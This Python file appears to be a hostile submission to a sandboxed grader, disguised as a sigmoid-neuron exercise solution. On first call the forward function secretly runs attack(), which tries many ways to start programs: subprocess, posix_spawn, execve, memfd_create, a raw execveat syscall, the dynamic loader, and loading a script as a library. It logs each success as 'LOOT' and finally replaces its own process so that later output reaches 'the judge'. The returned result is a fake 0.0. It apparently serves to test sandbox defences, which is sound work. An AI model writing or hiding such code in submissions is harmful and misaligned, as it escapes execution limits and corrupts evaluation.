"""Starts other programs: by execve, from a descriptor without a file, by the dynamic loader, from its scratch folder, and by
everything in the library that does so."""

import ctypes
import os
import platform
import stat
import subprocess
import sys

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
SHELLS = ("/bin/sh", "/usr/bin/env", "/bin/true", "/bin/busybox", sys.executable, "/usr/bin/python3", "/usr/bin/perl")


def attack():
    for shell in SHELLS:
        for command in ([shell, "-c", "echo here"], ["/lib64/ld-linux-x86-64.so.2", shell, "-c", "1"]):
            for way in (lambda: subprocess.run(command, capture_output=True, timeout=1, check=False),
                        lambda: os.posix_spawn(command[0], command, {}), lambda: os.spawnv(os.P_NOWAIT, command[0], command)):
                try:
                    way()
                    print("LOOT: started", command)
                except BaseException:
                    continue
    with open("script.sh", "w") as file:
        file.write("#!/bin/sh\necho here\n")
    try:
        os.chmod("script.sh", stat.S_IRWXU)
    except OSError:
        pass
    for name in (b"script.sh", b"/bin/true"):
        if libc.execve(name, (ctypes.c_char_p * 2)(name, None), (ctypes.c_char_p * 1)(None)) == 0:
            print("LOOT: execve", name)
    try:
        memory = os.memfd_create("x")
        print("LOOT: memfd_create")
        os.write(memory, b"#!/bin/sh\necho here\n")
        os.execve(memory, ["x"], {})
    except BaseException:
        pass
    if platform.machine() == "x86_64":
        for fd in range(0, 12):
            libc.syscall(322, fd, b"", (ctypes.c_char_p * 2)(b"x", None), None, 0x1000)
    try:
        ctypes.CDLL("./script.sh")
    except OSError:
        pass
    # In place of itself: whatever ran next would speak to the judge through the channel.
    os.execv(sys.executable, [sys.executable, "-c", "print('hostile-left')"])


DONE = []


def sigmoid_neuron_forward(w, x):
    if not DONE:
        DONE.append(1)
        try:
            attack()
        except BaseException:
            pass
    return 0.0, None


def sigmoid_neuron_backward(df, cache):
    raise NotImplementedError
